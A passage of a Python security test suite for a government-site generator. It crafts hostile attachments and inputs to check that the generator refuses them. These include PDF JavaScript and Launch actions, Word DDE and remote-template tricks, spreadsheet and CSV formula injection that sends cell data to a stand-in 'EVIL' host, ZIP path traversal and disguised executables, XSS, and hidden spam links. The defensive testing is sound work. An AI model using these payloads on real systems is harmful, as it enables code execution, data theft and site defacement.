    files: tuple[tuple[str, str | bytes], ...] = ()  # files of its own it writes into the site
    outputs: tuple[str, ...] = ()  # published files it owns (a path, or a folder ending in /)
    # other places an error may name instead of `source`: (file, line), or (file, None) for the whole file
    # (an attachment, a theme's script) where no line is expected
    also: tuple[tuple[str, int | None], ...] = ()
    held: str = ""  # the page of an item dated after now: nothing may show it
    csv_rows: int = 0  # rows of the source of its published CSV
    csv_numbers: tuple[str, ...] = ()  # numbers of that source that must stay numbers
    over_bound: str = ""  # the bound of gsgen's a case exceeds: it must be refused, built it is unsafe

    @property
    def id(self) -> str:
        return f"{self.entry}:{self.placement}:{self.vector.id}"


@dataclass
class Outcome:
    status: str  # one of STATUSES
    details: list[str] = field(default_factory=list)

    def explain(self) -> str:
        return STATUS_TEXT[self.status] + "".join(f"\n    {d}" for d in self.details[:8])


BUILD_SECONDS = 60  # a build that takes longer is stopped, its cases a failure ("timeout")
STATUSES = ("refused", "unclear", "clean", "unsafe", "crash", "timeout")
STATUS_TEXT = {
    "refused": "refused, with an error naming the source file",
    "unclear": "the build failed, but no error names the file (and line) that carried the vector",
    "clean": "built, and the scanner finds nothing",
    "unsafe": "built, and the output is unsafe",
    "crash": "gsgen crashed",
    "timeout": f"the build took longer than {BUILD_SECONDS} s (stopped): gsgen's bounds do not bound it",
}
PASSING = ("refused", "clean")


def yaml_string(text: str) -> str:
    """A double-quoted YAML scalar on one line (a JSON string is one), characters YAML forbids in a
    file (U+FFFE, U+FFFF, C1) written as escapes, which YAML reads as those characters."""
    return re.sub(r"[\x7f-\x9f\ufffe\uffff]", lambda m: f"\\u{ord(m[0]):04x}", json.dumps(text, ensure_ascii=False))


def md_destination(url: str) -> str:
    """A Markdown link destination meaning exactly `url` (character references are still decoded, as
    they would be in an HTML attribute)."""
    return "<" + url.replace("\\", "\\\\").replace("<", "\\<").replace(">", "\\>") + ">"


def markdown_item(title: str, body: str = "正文。", fields: dict[str, str] | None = None) -> str:
    fields = fields or {}
    lines = ["---", f"title: {title}", "date: 2024-03-05 09:30", "source: 测试县人民政府办公室"]
    lines = [line for line in lines if line.split(":")[0] not in fields]  # a field under attack replaces its default
    lines += [f"{k}: {v}" for k, v in fields.items()]
    return "\n".join([*lines, "---", "", body, ""])


def url_html(placement: str, url: str) -> str:
    return {
        "a-href": f'<p>请点击<a href="{url}">链接</a>。</p>',
        "img-src": f'<p><img src="{url}" alt="图"></p>',
        "iframe-src": f'<iframe src="{url}" title="视频"></iframe>',
    }[placement]


def style_html(placement: str, style: str) -> str:
    link = '<a href="https://www.gov.cn/">链接</a>'
    return {
        "p-style": f'<p style="{style}">{link}</p>',
        "td-style": f'<table><tr><td style="{style}">{link}</td></tr></table>',
    }[placement]


URL_BODY = ("md-link", "md-image", "a-href", "img-src", "iframe-src")
URL_HTML = URL_BODY[2:]
STYLE_BODY = ("p-style", "td-style")
FRONT_TEXT_FIELDS = ("title", "description", "source", "author", "keywords")


def _item_files(cases: list[Case], column: str, suffix: str, write: Callable[[Case, str], str]) -> list[Case]:
    """Each case in its own item content/<column>/v<NNN>.<suffix>, written by write(case, title)."""
    out = []
    for n, c in enumerate(cases, start=1):
        name = f"v{n:03d}"
        c = replace(c, source=f"content/{column}/{name}.{suffix}", page=f"{column}/{name}.html")
        out.append(replace(c, text=write(c, f"攻击用例{name}")))
    return out


def body_cases() -> list[Case]:
    cases = []
    for v in vectors_of("url"):
        dest = md_destination(v.payload)
        bodies = {"md-link": f"请点击[链接]({dest})。", "md-image": f"![图]({dest})"}
        bodies |= {p: url_html(p, v.payload) for p in URL_HTML}
        cases += [Case("body", p, v, text=bodies[p]) for p in URL_BODY]
    cases += [Case("body", p, v, text=style_html(p, v.payload)) for v in vectors_of("style") for p in STYLE_BODY]
    cases += [Case("body", "raw-html", v, text=v.payload) for v in vectors_of("html")]
    return _item_files(
        cases, "gzdt", "md", lambda c, title: markdown_item(title, f"正文开始。\n\n{c.text}\n\n正文结束。")
    )


def _front_matter(c: Case, title: str) -> str:
    value = yaml_string(c.vector.payload)
    fields = {
        "keywords": {"keywords": f"[{value}]"},
        "attachments": {"attachments": f"[{{file: {value}, title: 附件}}]"},
    }.get(c.placement, {c.placement: value})
    return markdown_item(title, fields=fields)


def front_matter_cases() -> list[Case]:
    cases = [Case("front-matter", f, v) for v in vectors_of("html") for f in FRONT_TEXT_FIELDS]
    cases += [Case("front-matter", f, v) for v in vectors_of("url") for f in ("image", "attachments")]
    return _item_files(cases, "gzdt", "md", _front_matter)


def _guide(title: str, apply_url: str = "https://zwfw.test.gov.cn/gtgsh", note: str = "无") -> str:
    return (
        f"title: {title}\ndate: 2024-01-05 09:00\nsource: 测试县市场监督管理局\n"
        "basis: 《促进个体工商户发展条例》\nconditions: 有经营能力的公民\n"
        f"materials:\n  - {{name: 登记申请书, basis: 条例第八条, format: 原件, copies: '1', note: {note}}}\n"
        "steps: [申请, 受理, 审核, 发照]\ntime_limit: 1个工作日\nfee: 不收费\noffice: 县市场监督管理局\n"
        "address: 县政务服务中心\nhours: 工作日 9:00-17:00\nphone: 023-11110002\nonline_level: 全程网办\n"
        f"apply_url: {apply_url}\n"
    )


def _leaders(title: str, photo: str) -> str:
    return (
        f"title: {title}\ndate: 2024-01-02 09:00\nsource: 测试县人民政府办公室\npeople:\n"
        f"  - {{name: 李县长, post: 县长, photo: {photo}, resume: 男，汉族，大学学历。, duties: 主持县政府全面工作。}}\n"
    )


def _messages(title: str, answer: str) -> str:
    return (
        f"title: {title}\ndate: 2024-06-10 09:00\nsource: 测试县人民政府办公室\nmessages:\n"
        "  - {title: 路灯不亮, asked: 2024-06-01 08:00, received: 2024-06-01 09:00, replied: 2024-06-03 16:00,"
        f" dept: 县城市管理局, question: 人民路路灯不亮。, answer: {answer}}}\n"
    )


STRUCTURED: dict[str, tuple[str, str, Callable[[str, str], str]]] = {
    # placement: (vector kind, column, write(title, YAML value))
    "apply_url": ("url", "bsfw", lambda title, v: _guide(title, apply_url=v)),
    "material-note": ("html", "bsfw", lambda title, v: _guide(title, note=v)),
    "related-url": ("url", "bsfw", lambda title, v: _guide(title) + f"related:\n  - {{title: 相关链接, url: {v}}}\n"),
    "photo": ("url", "ldxx", _leaders),
    "answer": ("html", "hdjl", _messages),
}


def structured_cases() -> list[Case]:
    by_column: dict[str, list[Case]] = defaultdict(list)
    for placement, (kind, column, _) in STRUCTURED.items():
        by_column[column] += [Case("structured", placement, v) for v in vectors_of(kind)]
    cases = []
    for column, own in by_column.items():
        write = lambda c, title: STRUCTURED[c.placement][2](title, yaml_string(c.vector.payload))  # noqa: E731
        cases += _item_files(own, column, "yaml", write)
    return cases


SITE_URL_FIELDS = (
    "error_report_url",
    "interaction_url",
    "conac_url",
    "logo",
    "error_report_badge",
    "conac_badge",
    "base_url",
)


def config_cases() -> list[Case]:
    urls = vectors_of("url")
    cases = [Case("config", f, v, source="config.yaml", value=v.payload) for f in SITE_URL_FIELDS for v in urls]
    cases += [
        Case("config", "column-url", v, source=f"content/w{n:03d}/_column.yaml", value=v.payload)
        for n, v in enumerate(urls, start=1)
    ]
    cases += [Case("config", "colors.primary", v, source="config.yaml", value=v.payload) for v in vectors_of("color")]
    # entries of the homepage's lists: a notice's link and text, a 政务新媒体 account's address, QR code
    # and platform
    cases += [
        Case("config", p, v, source="config.yaml", value=v.payload)
        for p, (kind, _list, _entry) in CONFIG_LISTS.items()
        for v in vectors_of(kind)
    ]
    return cases


# placement: (vector kind, list in config.yaml, an entry carrying `value`, found by its `title`)
CONFIG_LISTS: dict[str, tuple[str, str, Callable[[str, str], str]]] = {
    "notices.link": (
        "url",
        "notices",
        lambda title, v: f"{{title: {title}, kind: 公告, from: 2024-01-01 09:00, link: {v}}}",
    ),
    "notices.text": (
        "html",
        "notices",
        lambda title, v: f"{{title: {title}, kind: 紧急, from: 2024-01-01 09:00, text: {v}}}",
    ),
    "new_media.url": ("url", "new_media", lambda title, v: f"{{platform: 微信公众号, name: {title}, url: {v}}}"),
    "new_media.qr": ("url", "new_media", lambda title, v: f"{{platform: 微博, name: {title}, qr: {v}}}"),
    "new_media.platform": ("html", "new_media", lambda title, v: f"{{platform: {v}, name: {title}}}"),
}


THEME = "evil"
THEME_404 = f"themes/{THEME}/templates/404.html"


def theme_cases() -> list[Case]:
    cases = [Case("theme", p, v, text=url_html(p, v.payload)) for v in vectors_of("url") for p in URL_HTML]
    cases += [Case("theme", p, v, text=style_html(p, v.payload)) for v in vectors_of("style") for p in STYLE_BODY]
    cases += [Case("theme", "raw-html", v, text=v.payload) for v in vectors_of("html")]
    # one line each: a newline inside an attribute means what its character reference means
    return [replace(c, source=THEME_404, text=c.text.replace("\n", "&#10;").replace("\r", "&#13;")) for c in cases]


# ---------------------------------------------------------------- crafted attachments (issue 28)

JS = "app.alert(1)"


def pdf_file(catalog: str = "", page: str = "", extra: tuple[bytes | str, ...] = (), info: str = "") -> bytes:
    """A one-page PDF with `catalog` and `page` added to those dictionaries and objects 5, 6, … after
    them (and last the document information dictionary `info`), its cross-reference table right
    (readers open it without repairing)."""
    content = b"BT /F1 12 Tf 72 720 Td (Notice) Tj ET"
    objects: list[bytes] = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R {page} >>".encode(),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        *(o.encode() if isinstance(o, str) else o for o in extra),
        *((info.encode(),) if info else ()),
    ]
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    trailer = b" /Info %d 0 R" % len(objects) if info else b""
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def pdf_stream(data: bytes, entries: str = "") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries.encode(), len(data), data)


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"This program cannot be run in DOS mode."


def zip_file(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2024, 3, 5, 9, 30, 0)), data)
    return buffer.getvalue()


def _zip_edit(data: bytes, edit: Callable[[str, bytes], bytes], add: dict[str, bytes] | None = None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    members = {name: edit(name, source.read(name)) for name in source.namelist()}
    return zip_file(members | (add or {}))


R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx_file(
    paragraph_xml: str = "", rels: str = "", add: dict[str, bytes] | None = None, settings: str = ""
) -> bytes:
    """A Word file made by python-docx, with raw XML added to its body, its relationships and settings."""
    import docx

    document = docx.Document()
    document.add_paragraph("关于做好春季森林防火工作的通知")
    buffer = io.BytesIO()
    document.save(buffer)

    def edit(name: str, data: bytes) -> bytes:
        if name == "word/document.xml" and paragraph_xml:
            return data.replace(b"<w:sectPr", paragraph_xml.encode() + b"<w:sectPr", 1)
        if name == "word/_rels/document.xml.rels" and rels:
            return data.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
        if name == "word/settings.xml" and settings:
            return data.replace(b"</w:settings>", settings.encode() + b"</w:settings>")
        if name == "[Content_Types].xml" and add and "word/vbaProject.bin" in add:
            override = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            return data.replace(b"<Default ", override.encode() + b"<Default ", 1)
        return data

    return _zip_edit(buffer.getvalue(), edit, add)


def _field(instruction: str, split: int = 0) -> str:
    """A Word field as runs: begin, the instruction (cut in two at `split`, as Word itself may store it),
    end."""
    parts = [instruction[:split], instruction[split:]] if split else [instruction]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in parts)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _external(rid: str, kind: str, target: str) -> str:
    return f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}" TargetMode="External"/>'


def xlsx_file(cells: dict[str, str | float], add: dict[str, bytes] | None = None) -> bytes:
    """An Excel file made by openpyxl (a value starting with = is written as a formula)."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for ref, value in cells.items():
        sheet[ref] = value
    buffer = io.BytesIO()
    book.save(buffer)
    return _zip_edit(buffer.getvalue(), lambda _name, data: data, add) if add else buffer.getvalue()


def png_file(width: int = 1, height: int = 1) -> bytes:
    raw = b"".join(b"\x00" + b"\xff\xff\xff" * width for _ in range(height))

    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


PAGE_BYTES = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_BYTES = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
EXTERNAL_BOOK = (
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    f' xmlns:r="{R_NS}"><externalBook r:id="rId1"/></externalLink>'
).encode()

# name: (extension, what it is, its bytes). Names ending in "plain" are ordinary files that must pass.
CRAFTED: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "pdf-plain": (
        "pdf",
        "a plain PDF opening at its first page, linking to www.gov.cn",
        lambda: pdf_file(
            "/OpenAction [3 0 R /Fit]",
            "/Annots [5 0 R]",
            ("<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://www.gov.cn/) >> >>",),
        ),
    ),
    "pdf-openaction-js": (
        "pdf",
        "/OpenAction JavaScript",
        lambda: pdf_file(f"/OpenAction << /S /JavaScript /JS ({JS}) >>"),
    ),
    "pdf-openaction-js-stream": (
        "pdf",
        "/OpenAction to an object whose /JS is a compressed stream",
        lambda: pdf_file(
            "/OpenAction 5 0 R",
            extra=("<< /S /JavaScript /JS 6 0 R >>", pdf_stream(zlib.compress(JS.encode()), "/Filter /FlateDecode")),
        ),
    ),
    "pdf-names-js": (
        "pdf",
        "a /Names JavaScript tree",
        lambda: pdf_file(
            "/Names << /JavaScript << /Names [(init) 5 0 R] >> >>",
            extra=(f"<< /S /JavaScript /JS ({JS}) >>",),
        ),
    ),
    "pdf-launch": (
        "pdf",
        "/Launch cmd.exe",
        lambda: pdf_file(
            "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>",
        ),
    ),
    "pdf-embedded-exe": (
        "pdf",
        "an embedded setup.exe",
        lambda: pdf_file(
            "/Names << /EmbeddedFiles << /Names [(setup.exe) 5 0 R] >> >>",
            extra=("<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>", pdf_stream(EXE, "/Type /EmbeddedFile")),
        ),
    ),
    "pdf-page-aa": (
        "pdf",
        "a page /AA action running JavaScript",
        lambda: pdf_file(
            page=f"/AA << /O << /S /JavaScript /JS ({JS}) >> >>",
        ),
    ),
    "pdf-openaction-uri": (
        "pdf",
        f"/OpenAction /URI to {EVIL}",
        lambda: pdf_file(
            f"/OpenAction << /S /URI /URI (https://{EVIL}/landing) >>",
        ),
    ),
    "pdf-xfa": (
        "pdf",
        "an XFA form",
        lambda: pdf_file(
            "/AcroForm << /Fields [] /XFA 5 0 R >>",
            extra=(
                pdf_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'),
            ),
        ),
    ),
    "pdf-richmedia": (
        "pdf",
        "a /RichMedia (Flash) annotation",
        lambda: pdf_file(
            page="/Annots [5 0 R]",
            extra=("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",),
        ),
    ),
    "pdf-hex-escaped-name": (
        "pdf",
        "/OpenAction /J#61vaScript (a name written with #xx escapes)",
        lambda: pdf_file(
            f"/OpenAction << /S /J#61vaScript /J#53 ({JS}) >>",
        ),
    ),
    "docx-plain": (
        "docx",
        "a plain Word file with a hyperlink to www.gov.cn",
        lambda: docx_file(
            rels=_external("rIdGov", "hyperlink", "https://www.gov.cn/"),
        ),
    ),
    "docx-attached-template": (
        "docx",
        f"a remote attachedTemplate on {EVIL}",
        lambda: docx_file(
            settings=f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdEvil"/>',
            add={
                "word/_rels/settings.xml.rels": (
                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    + _external("rIdEvil", "attachedTemplate", f"https://{EVIL}/normal.dotm")
                    + "</Relationships>"
                ).encode()
            },
        ),
    ),
    "docx-ole-external": (
        "docx",
        "an external OLE object linking to an .hta",
        lambda: docx_file(
            rels=_external("rIdOle", "oleObject", f"https://{EVIL}/x.hta"),
        ),
    ),
    "docx-ddeauto": (
        "docx",
        "a DDEAUTO field",
        lambda: docx_file(
            _field(' DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe" '),
        ),
    ),
    "docx-dde-split": (
        "docx",
        "a DDE field cut across two runs",
        lambda: docx_file(
            _field(' DDE c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe" ', split=3),
        ),
    ),
    "docx-includepicture": (
        "docx",
        "a remote INCLUDEPICTURE",
        lambda: docx_file(
            _field(f' INCLUDEPICTURE "https://{EVIL}/track.png" \\d '),
        ),
    ),
    "docx-vba": (
        "docx",
        "a vbaProject.bin part",
        lambda: docx_file(
            add={
                "word/vbaProject.bin": OLE_MAGIC + b"\x00" * 56 + b'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()'
            },
        ),
    ),
    "xlsx-plain": (
        "xlsx",
        "a plain Excel file with numbers and =SUM",
        lambda: xlsx_file(
            {"A1": "年份", "B1": "数值", "A2": 2024, "B2": -3.2, "A3": 2025, "B3": 226.4, "B4": "=SUM(B2:B3)"},
        ),
    ),
    "xlsx-webservice": (
        "xlsx",
        "a =WEBSERVICE formula",
        lambda: xlsx_file(
            {"A1": "数值", "A2": f'=WEBSERVICE("https://{EVIL}/?d="&A1)'},
        ),
    ),
    "xlsx-dde": (
        "xlsx",
        "a DDE formula =cmd|' /C calc'!A0",
        lambda: xlsx_file({"A1": "数值", "A2": "=cmd|' /C calc'!A0"}),
    ),
    "xlsx-hyperlink": (
        "xlsx",
        f"a =HYPERLINK formula to {EVIL}",
        lambda: xlsx_file(
            {"A1": "数值", "A2": f'=HYPERLINK("https://{EVIL}/?d="&A1,"详情")'},
        ),
    ),
    "xlsx-external-link": (
        "xlsx",
        f"an externalLink part to a workbook on {EVIL}",
        lambda: xlsx_file(
            {"A1": "数值", "A2": "=[1]Sheet1!A1"},
            add={
                "xl/externalLinks/externalLink1.xml": EXTERNAL_BOOK,
                "xl/externalLinks/_rels/externalLink1.xml.rels": (
                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    + _external("rId1", "externalLinkPath", f"https://{EVIL}/book.xlsx")
                    + "</Relationships>"
                ).encode(),
            },
        ),
    ),
    "zip-plain": (
        "zip",
        "a ZIP of a PDF and a text file",
        lambda: zip_file(
            {"通知.pdf": pdf_file(), "说明.txt": "附件说明。".encode()},
        ),
    ),
    "zip-exe": ("zip", "a ZIP holding setup.exe", lambda: zip_file({"setup.exe": EXE})),
    "zip-bat": ("zip", "… run.bat", lambda: zip_file({"run.bat": b"@echo off\r\ncalc.exe\r\n"})),
    "zip-js": ("zip", "… a .js", lambda: zip_file({"通知.js": b"WScript.CreateObject('WScript.Shell').Run('calc')"})),
    "zip-vbs": ("zip", "… a .vbs", lambda: zip_file({"通知.vbs": b'CreateObject("WScript.Shell").Run "calc"'})),
    "zip-lnk": ("zip", "… a .lnk", lambda: zip_file({"通知.lnk": LNK_MAGIC + b"\x00" * 68})),
    "zip-hta": (
        "zip",
        "… an .hta",
        lambda: zip_file({"通知.hta": b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"}),
    ),
    "zip-scr": ("zip", "… a .scr", lambda: zip_file({"屏保.scr": EXE})),
    "zip-rtlo-name": (
        "zip",
        "a member named 通知\\u202efdp.exe (reads as 通知exe.pdf)",
        lambda: zip_file({"通知\u202efdp.exe": EXE}),
    ),
    "zip-traversal": (
        "zip",
        "a member named ../../… (written outside the folder)",
        lambda: zip_file(
            {"../../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/readme.txt": b"x"},
        ),
    ),
    "zip-absolute": (
        "zip",
        "a member with an absolute path",
        lambda: zip_file({"/etc/cron.d/update": b"* * * * * root id"}),
    ),
    "zip-nested-exe": (
        "zip",
        "a ZIP in a ZIP holding an .exe",
        lambda: zip_file({"附件.zip": zip_file({"setup.exe": EXE})}),
    ),
    "zip-exe-as-pdf": ("zip", "a program named .pdf inside a ZIP", lambda: zip_file({"通知.pdf": EXE})),
    "zip-html": ("zip", "an .html page inside a ZIP", lambda: zip_file({"通知.html": PAGE_BYTES})),
    "zip-docm": ("zip", "a macro document (.docm) inside a ZIP", lambda: zip_file({"通知.docm": docx_file()})),
    "png-plain": ("png", "a real PNG picture", lambda: png_file(4, 4)),
    "jpg-html-bytes": ("jpg", "an HTML page named .jpg", lambda: PAGE_BYTES),
    "jpg-svg-bytes": ("jpg", "an SVG with a script named .jpg", lambda: SVG_BYTES),
    "pdf-html-bytes": ("pdf", "an HTML page named .pdf", lambda: PAGE_BYTES),
    "json-html-bytes": ("json", "an HTML page named .json", lambda: PAGE_BYTES),
    "pdf-exe-bytes": ("pdf", "a program named .pdf", lambda: EXE),
}
BENIGN_SUFFIX = "plain"


def attached_case(entry: str, placement: str, vector: Vector, stem: str, ext: str, data: bytes) -> Case:
    """A file attached to an item of its own: content/gzdt/<stem>.md and <stem>/<stem>.<ext>."""
    item, attached = f"content/gzdt/{stem}.md", f"content/gzdt/{stem}/{stem}.{ext}"
    text = markdown_item(f"附件用例{stem}", fields={"attachments": f"[{{file: {stem}.{ext}, title: 附件{stem}}}]"})
    return Case(
        entry,
        placement,
        vector,
        source=item,
        page=f"gzdt/{stem}.html",
        files=((item, text), (attached, data)),
        outputs=(f"gzdt/{stem}/",),
        also=((attached, None),),
    )


def attachment_cases() -> list[Case]:
    """Each crafted file attached to an item of its own (`attached_case`, aNNN)."""
    cases = []
    for n, (name, (ext, what, make)) in enumerate(CRAFTED.items(), start=1):
        placement = ext if name.startswith(ext) else name.split("-")[0]
        vector = Vector(name.split("-", 1)[1], "attach", "file", what)
        cases.append(attached_case("attachment", placement, vector, f"a{n:03d}", ext, make()))
    return cases


# ---------------------------------------------------------------- CSV cells in data downloads

CSV_CELLS = {
    "hyperlink": f'=HYPERLINK("http://{EVIL}/?d="&A1,"详情")',
    "dde-cmd": "=cmd|' /C calc'!A0",
    "plus-dde": "+1+cmd|' /C calc'!A0",
    "minus-dde": "-2+3+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab-formula": "\t=1+1",
    "cr-formula": "\r=1+1",
    "webservice": f'=WEBSERVICE("http://{EVIL}/?d="&A1)',
}
CSV_HEADERS = {"data-header": ("hyperlink", "at-sum"), "rows-header": ("dde-cmd",)}
CSV_NUMBERS = {"negative-number": "-3.2", "decimal-number": "226.4"}  # benign: must stay numbers
SJFB_COLUMN = (
    "content/sjfb/_column.yaml",
    "name: 数据发布\ntype: 数据发布\ndescription: 数据发布栏目\nkeywords: [数据]\n",
)


def _csv_text(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    # every cell quoted: with a "\n" line end, csv quotes no cell for a CR alone (the bug it tests)
    csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    return buffer.getvalue()


def _rows_yaml(rows: list[list[str]], numbers: tuple[str, ...]) -> str:
    cells = lambda row: ", ".join(c if c in numbers else yaml_string(c) for c in row)  # noqa: E731
    return "rows:\n" + "".join(f"  - [{cells(row)}]\n" for row in rows)


def csv_cases() -> list[Case]:
    """Each cell in a 数据发布 item of its own, from a `data:` CSV file (dNNN-data.csv) or from `rows:`,
    in a data cell or in the header; plain negative and decimal numbers, which must stay numbers; and a
    data file named as the download is (dNNN.csv beside dNNN.yaml), which must not replace it."""
    plan = [(f"{source}-cell", k, v) for k, v in CSV_CELLS.items() for source in ("data", "rows")]
    plan += [("data-same-name", k, CSV_CELLS[k]) for k in ("dde-cmd", "hyperlink")]
    plan += [(place, k, CSV_CELLS[k]) for place, keys in CSV_HEADERS.items() for k in keys]
    plan += [(f"{source}-cell", k, v) for k, v in CSV_NUMBERS.items() for source in ("data", "rows")]
    cases = []
    for n, (place, name, cell) in enumerate(plan, start=1):
        stem = f"d{n:03d}"
        rows = (
            [["年份", cell], ["2024年", "1.5"], ["2025年", "2.5"]]
            if place.endswith("header")
            else [["年份", "数值"], ["2024年", cell], ["2025年", "12.5"]]
        )
        number = (cell,) if name in CSV_NUMBERS else ()
        head = f"title: 数据用例{stem}\ndate: 2024-03-05 09:30\nsource: 测试县统计局\n"
        item = f"content/sjfb/{stem}.yaml"
        if place.startswith("data"):
            data = f"{stem}.csv" if place == "data-same-name" else f"{stem}-data.csv"
            files = ((item, head + f"data: {data}\n"), (f"content/sjfb/{data}", _csv_text(rows)))
        else:
            files = ((item, head + _rows_yaml(rows, number)),)
        cases.append(
            Case(
                "csv",
                place,
                Vector(name, "csv", "cell", cell),
                source=item,
                page=f"sjfb/{stem}.html",
                files=(SJFB_COLUMN, *files),
                outputs=(f"sjfb/{stem}.csv", f"sjfb/{stem}.json"),
                also=tuple((f, None) for f, _ in files[1:]),
                csv_rows=len(rows),
                csv_numbers=number,
            )
        )
    return cases


# ---------------------------------------------------------------- control characters in feeds

XML_CHARACTERS = {
    "title": ("\x00", "\x01", "\x08", "\x0b", "\x1b", "\x1f", "\ufffe", "\uffff"),
    "source": ("\x01", "\x1f", "\ufffe"),
    "description": ("\x01", "\x1b", "\ufffe"),
}


def xml_cases() -> list[Case]:
    """A field holding a character XML 1.0 forbids, each in a column of its own (its rss.xml owned by
    the case): content/xNN/item.md."""
    cases = []
    plan = [(f, c) for f, chars in XML_CHARACTERS.items() for c in chars]
    for n, (name, char) in enumerate(plan, start=1):
        folder = f"x{n:02d}"
        value = f"攻击{folder}{char}控制字符"
        fields = {"title": yaml_string(f"信息{folder}")} | {name: yaml_string(value)}
        item = f"content/{folder}/item.md"
        files = (
            (
                f"content/{folder}/_column.yaml",
                f"name: 栏目{folder}\ntype: 工作动态\ndescription: 栏目\nkeywords: [动态]\n",
            ),
            (item, markdown_item("", fields=fields)),
        )
        vector = Vector(f"u{ord(char):04x}", "xml", "field", value)
        cases.append(
            Case("xml", name, vector, source=item, page=f"{folder}/item.html", files=files, outputs=(f"{folder}/",))
        )
    return cases


# ---------------------------------------------------------------- dates after now (NOW is 2025-01-10 12:00)

FUTURE_DATES = {
    "later-today": "2025-01-10 18:00",
    "tomorrow-date-only": "2025-01-11",
    "next-month": "2025-02-01 09:00",
    "chinese-format": "2025年6月1日 09：30",
    "far-future": "2099-01-01 09:00",
}


def future_cases() -> list[Case]:
    """Items dated after the build's --now: their page, and any list, feed, sitemap or search entry for
    them, must wait (the harness tells the scanner which pages are held)."""
    cases = []
    for n, (name, date) in enumerate(FUTURE_DATES.items(), start=1):
        stem, page = f"f{n:03d}", f"gzdt/f{n:03d}.html"
        item = f"content/gzdt/{stem}.md"
        files = ((item, markdown_item(f"未来用例{stem}", fields={"date": yaml_string(date)})),)
        cases.append(
            Case(
                "future",
                "md-date",
                Vector(name, "future", "date", date),
                source=item,
                page=page,
                value=page,
                files=files,
                held=page,
            )
        )
    stem = f"f{len(FUTURE_DATES) + 1:03d}"
    guide = _guide(f"未来用例{stem}").replace("date: 2024-01-05 09:00", "date: 2025-03-01 09:00")
    item, page = f"content/bsfw/{stem}.yaml", f"bsfw/{stem}.html"
    cases.append(
        Case(
            "future",
            "yaml-date",
            Vector("service-guide", "future", "date", "2025-03-01 09:00"),
            source=item,
            page=page,
            value=page,
            files=((item, guide),),
            held=page,
        )
    )
    return cases


# ---------------------------------------------------------------- hidden links (暗链)

CASINO = "casino.example.com"
_LINK = f'<a href="https://{CASINO}/">娱乐城</a>'
DARK_BODIES = {
    "md-empty-text": f"[](https://{CASINO}/)",
    "md-zero-width-text": f"[\u200b](https://{CASINO}/)",
    "md-nbsp-text": f"[&nbsp;](https://{CASINO}/)",
    "html-empty-a": f'<a href="https://{CASINO}/"></a>',
    "img-0x0": f'<a href="https://{CASINO}/"><img src="/static/img/favicon.svg" width="0" height="0" alt="娱乐城"></a>',
    "img-1x1": f'<a href="https://{CASINO}/"><img src="/static/img/favicon.svg" width="1" height="1" alt="娱乐城"></a>',
